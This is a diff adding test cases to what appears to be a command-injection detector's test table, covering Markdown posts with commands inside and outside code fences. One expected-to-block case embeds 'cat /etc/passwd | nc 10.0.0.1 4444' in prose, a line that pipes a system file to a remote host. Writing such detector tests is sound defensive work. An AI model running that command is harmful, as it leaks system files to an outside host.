@@ -82,6 +82,23 @@ export const CMDI_CASES: readonly CmdiCase[] = [
 
   // A whole value that is one command line: a tool that is no word, or a word with an option or a path.
   { input: 'cscli decisions list', expect: 'cmdi/shell-command', min: BLOCKS },
+  // A Markdown post: a command in a fenced code block is a sample; one outside the fences counts in full.
+  {
+    input:
+      "On Windows, PowerShell uses a different syntax to set environment variables. Set the variable, then start the app as usual.\n\nExample:\n\n```cmd\n$env:DEBUG='app';node app.js\n```\n\nThen run the program to be debugged the way you always do, and read its output in the terminal.",
+    kind: 'body-value',
+    location: 'body.json.content',
+    expect: null,
+    max: BLOCKS,
+  },
+  {
+    input:
+      'On Windows, PowerShell uses a different syntax to set environment variables. Set the variable, then start the app as usual.\n\nExample:\n\n```cmd\nset DEBUG=app\n```\n\nThen run it; cat /etc/passwd | nc 10.0.0.1 4444 and you are done with it.',
+    kind: 'body-value',
+    location: 'body.json.content',
+    expect: 'cmdi/chained-command',
+    min: BLOCKS,
+  },
   {
     input: 'ansible-inventory --graph',
     kind: 'header-value',
